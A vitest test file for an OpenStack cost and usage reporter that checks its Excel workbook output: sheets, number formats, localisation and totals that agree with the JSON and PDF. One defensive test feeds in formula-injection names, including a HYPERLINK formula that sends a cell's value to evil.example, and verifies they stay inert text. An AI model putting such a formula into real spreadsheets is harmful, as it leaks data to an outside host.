import ExcelJS from 'exceljs';
import { parse as parseYaml } from 'yaml';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ChromiumPdfRenderer } from '../../src/adapters/chromium/chromium-pdf-renderer';
import { cloudConfigFromDocument, createInventorySource } from '../../src/adapters/openstack';
import { startDemoCloud, type DemoCloud } from '../../src/demo-cloud';
import { xlsxContentType } from '../../src/presentation';
import { sampleCostData } from '../../src/presentation/cost/sample';
import { sampleInventoryData } from '../../src/presentation/inventory/sample';
import { samplePriceList } from '../../src/presentation/sample-cloud';
import { sampleUsageData } from '../../src/presentation/usage/sample';
import { reportWorkbook } from '../../src/presentation/xlsx/report-workbook';
import { cellText, sheetName } from '../../src/presentation/xlsx/sheet-model';
import type { ReportData } from '../../src/report-engine/report-data';
import { openWithLibreOffice } from '../helpers/xlsx-sheets';
import { buildReportData, cleanupPdfTemp, readPdf, renderReport, silentLogger, spec, squash } from './helpers';

async function load(data: ReportData): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await reportWorkbook(data)).buffer as ArrayBuffer);
  return workbook;
}

/** The data rows of a sheet read by LibreOffice, as records by header. */
function records(rows: string[][] | undefined): Record<string, string>[] {
  const [header, ...rest] = rows ?? [];
  return rest.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

const cents = (values: (string | number)[]) => values.reduce<number>((n, v) => n + Math.round(Number(v) * 100), 0);

describe('the workbook', () => {
  it.each([
    ['inventory', sampleInventoryData, ['Summary', 'By project', 'Servers', 'Volumes', 'Floating IPs', 'Price list']],
    ['usage', sampleUsageData, ['Summary', 'By project', 'Servers', 'Price list']],
    ['cost', sampleCostData, ['Summary', 'By project', 'Servers', 'Volumes', 'Floating IPs', 'Price list']],
  ] as const)('%s: its sheets, each with a frozen header row and an auto-filter over the data', async (_type, sample, names) => {
    const workbook = await load(sample({ servers: 12, projects: 3 }));
    expect(workbook.worksheets.map((w) => w.name)).toEqual(names);
    for (const ws of workbook.worksheets) {
      expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
      expect(ws.getRow(1).font?.bold).toBe(true);
      expect(ws.autoFilter).toBeDefined();
    }
  });

  it('writes amounts, hours and sizes as numbers with number formats, amounts in the report currency', async () => {
    const data = sampleCostData({ servers: 12, projects: 3 });
    const workbook = await load(data);
    const servers = workbook.getWorksheet('Servers')!;
    const header = (servers.getRow(1).values as unknown[]).slice(1);
    const amount = servers.getRow(2).getCell(header.indexOf('Amount') + 1);
    const hours = servers.getRow(2).getCell(header.indexOf('Hours') + 1);
    const ram = servers.getRow(2).getCell(header.indexOf('RAM GB') + 1);
    expect(amount.type).toBe(ExcelJS.ValueType.Number);
    expect(amount.value).toBe(Number(data.cost!.lines[0].amount));
    expect(amount.numFmt).toBe('"USD "#,##0.00;"USD "-#,##0.00');
    expect(hours.type).toBe(ExcelJS.ValueType.Number);
    expect(hours.numFmt).toBe('#,##0.00" h"');
    expect(ram.numFmt).toBe('#,##0.00" GB"');
    const summary = workbook.getWorksheet('Summary')!;
    const total = summary.getColumn(1).values.indexOf('Total');
    expect(summary.getRow(total).getCell(2).value).toBe(Number(data.cost!.totals.total));
  });

  it('has headers and sheet names in the report language (pt-BR)', async () => {
    const workbook = await load(sampleCostData({ servers: 6, projects: 2, locale: 'pt-BR' }));
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Resumo', 'Por projeto', 'Servidores', 'Volumes', 'IPs flutuantes', 'Tabela de preços']);
    expect((workbook.getWorksheet('Servidores')!.getRow(1).values as unknown[]).slice(1)).toContain('Valor');
  });

  it('keeps hostile names as text: a formula is never a formula, and XML-illegal characters do not break the file', async () => {
    const data = sampleCostData({ servers: 6, projects: 2 });
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '@SUM(A1:A9)', '-3+4', 'bell\u0007name'];
    names.forEach((name, i) => (data.cost!.lines[i].resourceName = name));
    const workbook = await load(data);
    const servers = workbook.getWorksheet('Servers')!;
    const nameColumn = (servers.getRow(1).values as unknown[]).indexOf('Name');
    for (let i = 0; i < names.length; i++) {
      const cell = servers.getRow(i + 2).getCell(nameColumn);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.value).toBe(cellText(names[i]));
    }
    // What a spreadsheet program makes of it: LibreOffice reads the same text back, evaluates nothing.
    const sheets = await openWithLibreOffice(await reportWorkbook(data));
    const read = records(sheets.get('Servers')).map((r) => r.Name);
    expect(read.slice(0, 4)).toEqual(names.slice(0, 4));
    expect(read[4]).toBe('bell\ufffdname');
  });

  it('names sheets as Excel allows: 31 characters, no []:*?/\\, unique', () => {
    const taken = new Set<string>();
    expect(sheetName('a/b:c*d?e[f]g\\h', taken)).toBe('a b c d e f g h');
    expect(sheetName('x'.repeat(40), taken)).toHaveLength(31);
    expect(sheetName('X'.repeat(40), taken)).toBe(`${'x'.repeat(29).toUpperCase()} 2`);
  });

  it('has the xlsx media type', async () => {
    const [xlsx] = await renderReport(sampleUsageData({ servers: 3, projects: 1 }), spec({ type: 'usage', formats: ['xlsx'] }), {
      pdf: { render: () => Promise.reject(new Error('no PDF')), close: () => Promise.resolve() },
    });
    expect(xlsx).toMatchObject({ format: 'xlsx', extension: 'xlsx', contentType: xlsxContentType });
    expect(Buffer.from(xlsx.body.subarray(0, 2)).toString()).toBe('PK');
  });
});

describe('the workbook of a demo cloud report, opened in LibreOffice', () => {
  let cloud: DemoCloud;
  const renderer = new ChromiumPdfRenderer();
  beforeAll(async () => {
    cloud = await startDemoCloud({ servers: 60, projects: 4, seed: 7 });
  });
  afterAll(async () => {
    await renderer.close();
    await cloud?.close();
    await cleanupPdfTemp();
  });

  function source() {
    const doc = parseYaml(cloud.cloudsYaml('demo')) as { clouds: Record<string, unknown> };
    return createInventorySource(cloudConfigFromDocument(doc.clouds.demo));
  }

  it('cost: the same totals as the JSON and the PDF, and the lines add up to them', async () => {
    const s = spec({ type: 'cost', formats: ['pdf', 'json', 'xlsx'], period: { preset: 'last-30-days' }, priceList: samplePriceList });
    const data = await buildReportData(source(), s, { runId: 'xlsx-cost', now: cloud.data.now, logger: silentLogger });
    const [pdf, json, xlsx] = await renderReport(data, s, { pdf: renderer });
    const totals = (JSON.parse(new TextDecoder().decode(json.body)) as ReportData).cost!.totals;

    const sheets = await openWithLibreOffice(xlsx.body);
    expect([...sheets.keys()].sort()).toEqual(['By project', 'Floating IPs', 'Price list', 'Servers', 'Summary', 'Volumes']);
    const summary = new Map(sheets.get('Summary')!.map(([k, v]) => [k, v]));
    for (const [label, key] of [
      ['Compute', 'compute'],
      ['Volumes', 'volumes'],
      ['Floating IPs', 'floatingIps'],
      ['Subtotal', 'subtotal'],
      ['Discount', 'discount'],
      ['Tax', 'tax'],
      ['Total', 'total'],
    ] as const) {
      expect(Number(summary.get(label))).toBe(Number(totals[key]));
    }
    // Each resource sheet's amounts sum to its total; the three to the subtotal.
    const amounts = (sheet: string) => records(sheets.get(sheet)).filter((r) => r.Project !== 'Total');
    const compute = cents(amounts('Servers').map((r) => r.Amount));
    const volumes = cents(amounts('Volumes').map((r) => r.Amount));
    const ips = cents(amounts('Floating IPs').map((r) => r.Amount));
    expect(compute).toBe(cents([totals.compute]));
    expect(volumes).toBe(cents([totals.volumes]));
    expect(ips).toBe(cents([totals.floatingIps]));
    const byProject = records(sheets.get('By project'));
    const totalRow = byProject.find((r) => r.Project === 'Total')!;
    expect(Number(totalRow.Total)).toBe(Number(totals.total));
    expect(cents(byProject.filter((r) => r !== totalRow).map((r) => r.Total))).toBe(cents([totals.total]));

    // The PDF prints the same grand total.
    const usd = new Intl.NumberFormat('en', { style: 'currency', currency: 'USD' });
    const text = (await readPdf(pdf.body)).text.split('\n').map(squash);
    const totalLine = text.find((l) => l.trim().startsWith('Total, all projects'));
    expect(totalLine?.trim().split(' ').at(-1)).toBe(usd.format(Number(totals.total)));

    // As shown: amounts carry the currency, hours their unit.
    const shown = await openWithLibreOffice(xlsx.body, { shown: true });
    expect(new Map(shown.get('Summary')!.map(([k, v]) => [k, v])).get('Total')).toBe(`USD ${usd.format(Number(totals.total)).slice(1)}`);
    expect(records(shown.get('Servers'))[0].Hours).toMatch(/^[\d,]+\.\d\d h$/);
  });

  it('cost grouped by cost centre, per day: By group and Daily sum to the JSON totals', async () => {
    const s = spec({
      type: 'cost',
      formats: ['json', 'xlsx'],
      period: { preset: 'last-30-days', timezone: 'America/Sao_Paulo' },
      priceList: samplePriceList,
      groupBy: ['metadata:cost_center'],
      step: 'day',
    });
    const data = await buildReportData(source(), s, { runId: 'xlsx-grouped', now: cloud.data.now, logger: silentLogger });
    const [, xlsx] = await renderReport(data, s, { pdf: renderer });
    const sheets = await openWithLibreOffice(xlsx.body);
    expect([...sheets.keys()]).toEqual(expect.arrayContaining(['By group', 'Daily']));
    expect(sheets.has('By project')).toBe(false);
    const byGroup = records(sheets.get('By group'));
    const header = 'Metadata: cost_center';
    const total = byGroup.find((r) => r[header] === 'Total')!;
    expect(cents(byGroup.filter((r) => r !== total).map((r) => r.Total))).toBe(cents([data.cost!.totals.total]));
    expect(byGroup.map((r) => r[header])).toContain('(none)');
    const daily = records(sheets.get('Daily')).filter((r) => r.Start !== 'Total');
    expect(daily).toHaveLength(data.series!.steps.length * data.series!.groups.length);
    expect(cents(daily.map((r) => r.Total))).toBe(cents([data.cost!.totals.total]));
    // Every server line names its cost centre, as the JSON does.
    const servers = records(sheets.get('Servers')).filter((r) => r.Project !== 'Total');
    const byId = new Map(data.cost!.lines.map((l) => [l.resourceId, l]));
    expect(servers.every((r) => r[`Group: ${header}`] === byId.get(r.ID)!.groupKeys![0])).toBe(true);
  });

  it('month to date against the previous period, with a budget: By group has the comparison and forecast, Budgets the budget', async () => {
    const s = spec({
      type: 'cost',
      formats: ['xlsx'],
      period: { preset: 'month-to-date' },
      priceList: samplePriceList,
      groupBy: ['metadata:cost_center'],
      compare: true,
      budgets: [{ keys: ['(none)'], amount: '100' }],
    });
    const data = await buildReportData(source(), s, { runId: 'xlsx-mtd', now: cloud.data.now, logger: silentLogger });
    const [xlsx] = await renderReport(data, s, { pdf: renderer });
    const sheets = await openWithLibreOffice(xlsx.body);
    const byGroup = records(sheets.get('By group'));
    const total = byGroup.find((r) => r['Metadata: cost_center'] === 'Total')!;
    expect(Number(total['Previous period'])).toBe(Number(data.comparison!.totals.previous));
    expect(Number(total.Change)).toBe(Number(data.comparison!.totals.delta));
    expect(Object.keys(total)).toContain('Month-end forecast');
    const [budget] = records(sheets.get('Budgets'));
    expect(budget).toMatchObject({ Group: data.budgets![0]!.label, Budget: '100', Actual: String(Number(data.budgets![0]!.actual)) });
    expect(Number(budget!['Used %'])).toBe(data.budgets![0]!.usedPercent);
  });

  it('usage: the hours of the servers sheet add up to the JSON totals', async () => {
    const s = spec({ type: 'usage', formats: ['json', 'xlsx'], period: { preset: 'last-30-days' }, locale: 'pt-BR' });
    const data = await buildReportData(source(), s, { runId: 'xlsx-usage', now: cloud.data.now, logger: silentLogger });
    const [, xlsx] = await renderReport(data, s, { pdf: renderer });
    const sheets = await openWithLibreOffice(xlsx.body);
    const servers = records(sheets.get('Servidores'));
    expect(servers).toHaveLength(data.usage!.servers.length);
    expect(cents(servers.map((r) => r['vCPU-h']))).toBe(cents([data.usage!.totals.vcpuHours]));
    const summary = new Map(sheets.get('Resumo')!.map(([k, v]) => [k, v]));
    expect(Number(summary.get('vCPU-horas'))).toBe(data.usage!.totals.vcpuHours);
  });
});

/** A sample cost report grouped by project with a two-day series and a budget, as the engine would shape it. */
function groupedCost(): ReportData {
  const data = sampleCostData({ servers: 16, projects: 3 });
  const cost = data.cost!;
  const zero = { servers: 0, vcpuHours: 0, ramGbHours: 0, diskGbHours: 0 };
  const groups = cost.byProject.map(({ projectId, projectName, ...c }) => ({ keys: [projectId], labels: [projectName], label: projectName, ...zero, cost: c }));
  const { projectId: _id, projectName: _name, ...totals } = { projectId: '', projectName: '', ...cost.totals };
  data.grouping = {
    dimensions: ['project'],
    noneKey: '(none)',
    attribution: 'attached server, else project',
    attributionRule: 'attached-server-else-project',
    groups,
    totals: { ...zero, cost: totals },
  };
  cost.lines = cost.lines.map((l) => ({ ...l, groupKeys: [l.projectId] }));
  const half = (amount: string) => {
    const first = Math.floor(Math.round(Number(amount) * 100) / 2);
    return [(first / 100).toFixed(2), ((Math.round(Number(amount) * 100) - first) / 100).toFixed(2)];
  };
  const point = (g: (typeof groups)[number], i: number) => ({ ...zero, subtotal: half(g.cost.subtotal)[i], total: half(g.cost.total)[i] });
  const steps = [
    { label: '2026-02-01', start: '2026-02-01T00:00:00Z', end: '2026-02-02T00:00:00Z', hours: '24', complete: true },
    { label: '2026-02-02', start: '2026-02-02T00:00:00Z', end: '2026-02-03T00:00:00Z', hours: '24', complete: true },
  ];
  const seriesGroups = groups.map((g) => ({ keys: g.keys, label: g.label, others: false, points: [point(g, 0), point(g, 1)] }));
  const sumPoints = (i: number, key: 'subtotal' | 'total') =>
    (seriesGroups.reduce((n, g) => n + Math.round(Number(g.points[i][key]) * 100), 0) / 100).toFixed(2);
  data.series = {
    step: 'day',
    rounding: 'largest remainder',
    topGroups: null,
    steps,
    groups: seriesGroups,
    totals: [0, 1].map((i) => ({ ...zero, subtotal: sumPoints(i, 'subtotal'), total: sumPoints(i, 'total') })),
  };
  data.budgets = [{ keys: groups[0].keys, label: groups[0].label, amount: '100.00', currency: 'USD', actual: groups[0].cost.total, usedPercent: 42.5 }];
  return data;
}

describe('the workbook of a grouped report', () => {
  it('has By group, the series sheet named by its step and Budgets; each sums to the report total', async () => {
    const data = groupedCost();
    const workbook = await load(data);
    expect(workbook.worksheets.map((w) => w.name)).toEqual(['Summary', 'By group', 'Daily', 'Budgets', 'Servers', 'Volumes', 'Floating IPs', 'Price list']);
    const sheets = await openWithLibreOffice(await reportWorkbook(data));
    const byGroup = records(sheets.get('By group'));
    const totalRow = byGroup.find((r) => r.Project === 'Total')!;
    expect(Number(totalRow.Total)).toBe(Number(data.cost!.totals.total));
    expect(cents(byGroup.filter((r) => r !== totalRow).map((r) => r.Total))).toBe(cents([data.cost!.totals.total]));
    const daily = records(sheets.get('Daily'));
    const dailyTotal = daily.find((r) => r.Start === 'Total')!;
    expect(cents(daily.filter((r) => r !== dailyTotal).map((r) => r.Total))).toBe(cents([data.cost!.totals.total]));
    expect(Number(dailyTotal.Total)).toBe(Number(data.cost!.totals.total));
    expect(daily[0]).toMatchObject({ Start: '2026-02-01 00:00:00', Step: '2026-02-01', Group: data.grouping!.groups[0].label });
    expect(records(sheets.get('Budgets'))[0]).toMatchObject({ Group: data.budgets![0].label, Budget: '100', 'Used %': '42.5' });
    // Every line names its group.
    const servers = records(sheets.get('Servers')).filter((r) => r.Project !== 'Total');
    expect(servers.every((r) => r['Group: Project'] === r.Project)).toBe(true);
  });
});
